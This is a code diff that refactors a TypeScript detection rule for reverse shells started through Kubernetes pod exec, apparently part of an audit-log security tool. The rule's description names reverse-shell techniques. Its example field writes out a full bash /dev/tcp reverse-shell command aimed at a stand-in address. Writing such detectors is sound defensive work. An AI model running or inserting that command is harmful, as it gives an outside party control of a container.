@@ -1,12 +1,11 @@
+import { callRule } from '../call-rule.ts';
 import { aboutCall, shownCaller, shownObject } from '../claim.ts';
-import { execOf } from '../exec.ts';
+import { EXECS, execOf } from '../exec.ts';
 import { reverseShellIn } from '../reverse-shell.ts';
-import type { AuditRule } from '../rule.ts';
 
 /** A command, run in a container through the API, that hands a shell to another host. */
-export const execReverseShell: AuditRule = {
+export const execReverseShell = callRule({
   id: 'exec-reverse-shell',
-  reads: 'audit',
   title: 'Reverse shell started in a pod',
   sees: 'An exec whose command ties a shell to a connection: /dev/tcp, netcat -e, socat, a named pipe, or the sockets of a scripting language. Probes of the own host are none; probes of another host and terminals without a connection count for less.',
   why: 'There is no ordinary reason for it: somebody elsewhere now gives the orders in this container.',
@@ -19,7 +18,7 @@ export const execReverseShell: AuditRule = {
   family: 'exec',
   conclusive: true,
   falsePositives: ['Security training and capture-the-flag environments', 'Exercises of a red team'],
-  filter: 'protoPayload.methodName=~"[.]pods[.]exec[.](create|get)$"',
+  calls: EXECS,
   example: "kubectl exec -n shop cart-7d9f -- bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'",
   match: (signal) => {
     const exec = execOf(signal);
@@ -31,4 +30,4 @@ export const execReverseShell: AuditRule = {
       ...(seen.certain ? {} : { severity: 'medium', confidence: 0.45, conclusive: false }),
     };
   },
-};
+});
